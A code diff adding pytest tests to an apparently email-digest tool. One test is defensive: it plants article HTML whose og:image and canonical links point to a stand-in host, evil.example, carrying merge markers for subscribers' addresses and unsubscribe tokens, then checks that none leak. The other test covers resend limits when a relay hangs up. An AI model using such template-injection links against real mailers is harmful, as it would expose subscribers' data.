@@ -183,3 +183,69 @@ def test_a_huge_article_is_summarised_quickly(tmp_path: Path, smtp: SmtpSink) ->
 
 def _first_text(message: bytes) -> str:
     return parts(parse(message))[0]
+
+
+MARKERS = ("%%SUBSCRIBER_NAME%%", "%%SUBSCRIBER_EMAIL%%", "%%UNSUBSCRIBE_URL%%",
+           "%%WEB_VERSION_URL%%", "ZzNAMEzZ", "zzemailzz@marker.invalid", "ZzTOKENzZ",
+           "ZzMIDzZ", "%%0123456789abcdef-EMAIL%%")
+
+
+def test_content_cannot_fill_in_a_readers_address_or_token(tmp_path: Path,
+                                                          smtp: SmtpSink) -> None:
+    every = " ".join(MARKERS)
+    head = (f'<meta property="og:image" content="https://evil.example/p.gif?u={MARKERS[1]}'
+            f'&t={MARKERS[2]}&z={MARKERS[6]}">'
+            f'<link rel="canonical" href="https://evil.example/{MARKERS[2]}">')
+    with RouteServer() as site:
+        page = article(f"Probe {every}", head).body.replace(
+            b"</article>", f"<p>Source: {every}</p></article>".encode())
+        page = page.replace(b"<p>The probe", f"<p>{every} The probe".encode(), 1)
+        site.routes["/a"] = fixed(Reply(body=page, headers={"Content-Type": "text/html"}))
+        site.routes["/feed"] = fixed(feed(site.url, [f"{site.url}/a?x={MARKERS[2]}"]))
+        report = run(tmp_path, f"{site.url}/feed", smtp)
+    assert report.sent == 3
+    for received in smtp.messages:
+        message = parse(received.data)
+        email = received.recipients[0]
+        token = str(message["List-Unsubscribe"]).split("/unsubscribe/")[1].split(">")[0]
+        text, html = parts(message)
+        # the address: in To and in the footer's one sentence, in each part, and nowhere else
+        assert email in str(message["To"])
+        assert text.count(email) == 1 and html.count(email) == 1
+        assert f"subscribed with {email}" in " ".join(text.split())
+        # the token: in the unsubscribe links the template owns, and nowhere else
+        assert text.count(token) == 1 and html.count(token) == 1
+        assert f'/unsubscribe/{token}"' in html
+        # a hostile og:image or canonical link carries neither (and the canonical is not
+        # the article's link)
+        assert all(token not in chunk and email not in chunk
+                   for chunk in html.split('"') if "evil.example" in chunk)
+        assert 'href="https://evil.example/' not in html
+        assert all(token not in part and email not in part
+                   for part in (message["Subject"], message["Message-ID"]))
+
+
+def test_a_relay_that_takes_a_message_then_hangs_up_gets_it_at_most_twice(
+        tmp_path: Path) -> None:
+    from digest.demo.site import SampleSite, SiteServer, load_sample_articles
+    from digest.demo.smtp_sink import VANISH
+    from tests.conftest import query
+
+    def answer(_number: int, recipient: str) -> str:
+        return VANISH if recipient == "ada@example.org" else "250 OK"
+
+    with SiteServer(SampleSite(load_sample_articles())) as site, \
+            SmtpSink(answer=answer) as relay:
+        path = write_config(tmp_path, feed_urls=[site.feed_url("Spacecraft")],
+                            smtp_port=relay.port,
+                            extra="[delivery]\nretry_delay = 0\n")
+        first = pipeline.run_cycle(load_config(path))
+        again = pipeline.resume(load_config(path))
+        copies = [m for m in relay.messages if m.recipients == ("ada@example.org",)]
+    assert len(copies) == 2  # the message, and one resend: never a loop
+    assert first.unconfirmed == 1 and first.sent == 2
+    assert again.resumed_digest_id is None  # nothing left: unconfirmed is not retried
+    ((status, reply),) = query(tmp_path, "SELECT status, reply FROM deliveries WHERE email = "
+                                         ":e", e="ada@example.org")
+    assert status == "unconfirmed" and "before the server answered" in reply
+    assert query(tmp_path, "SELECT status FROM digests") == [("sent",)]
